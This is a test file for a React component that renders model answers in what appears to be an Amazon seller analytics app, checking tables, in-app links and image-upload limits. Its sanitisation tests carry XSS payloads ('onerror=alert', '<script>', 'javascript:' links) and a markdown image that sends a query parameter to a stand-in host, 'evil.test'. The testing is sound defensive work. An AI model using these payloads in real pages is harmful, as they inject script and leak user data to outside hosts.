// @vitest-environment happy-dom
/** What a model or the data says is shown, and never obeyed: no HTML, no pictures, no way out of the app. */
import '../../../tests/support/dom'
import { fireEvent, render, screen } from '@testing-library/react'
import { MemoryRouter, useLocation } from 'react-router'
import { describe, expect, it } from 'vitest'
import { AnswerText, routeOfLink } from './answer-text'
import { checkImage } from './attached-image'

function Where() {
  const { pathname, search } = useLocation()
  return <output>{pathname + search}</output>
}
const draw = (text: string) => render(<MemoryRouter><AnswerText text={text} /><Where /></MemoryRouter>)

describe('an answer', () => {
  it('has tables, and links to pages that open inside the app', () => {
    draw('| MSKU | 销量 |\n| --- | ---: |\n| A\\|1 | 12 |\n\n[打开「产品表现」](/amazon/statistics/product_expression?tab=msku&day=%40last30)')
    expect(screen.getAllByRole('cell').map(({ textContent }) => textContent)).toEqual(['A|1', '12'])
    fireEvent.click(screen.getByRole('link', { name: '打开「产品表现」' }))
    expect(screen.getByRole('status').textContent).toBe('/statistics/product_expression?tab=msku&day=%40last30')
  })

  it('has no HTML, no pictures and no link that leads away', () => {
    const { container } = draw([
      '<img src=x onerror=alert(1)><script>alert(1)</script>', '![偷看](http://evil.test/a.png?d=1)',
      '[点我](http://evil.test/?d=1) [点我](javascript:alert(1)) [点我](//evil.test) <https://evil.test>',
    ].join('\n\n'))
    expect(container.querySelectorAll('img, script, a, iframe')).toHaveLength(0)
    expect(container.textContent).toContain('http://evil.test/?d=1')
  })

  it('takes for a page only what is one', () => {
    expect(['/sale/listing?q=1', '/amazon/sale/listing', '/amazon', '//evil.test', '/\\evil.test', '/api/messages/image?id=1', 'mailto:a@b.c', undefined].map(
      routeOfLink,
    )).toEqual(['/sale/listing?q=1', '/sale/listing', '/', undefined, undefined, undefined, undefined, undefined])
  })
})

describe('a picture that is attached', () => {
  it('is one of four kinds and not too large', () => {
    expect(() => checkImage({ type: 'image/png', size: 1000 })).not.toThrow()
    expect(() => checkImage({ type: 'image/svg+xml', size: 1000 })).toThrow('只能发送 PNG、JPEG、WebP 或 GIF 图片')
    expect(() => checkImage({ type: 'image/png', size: 11 * 1024 * 1024 })).toThrow('最多 10 MB')
  })
})
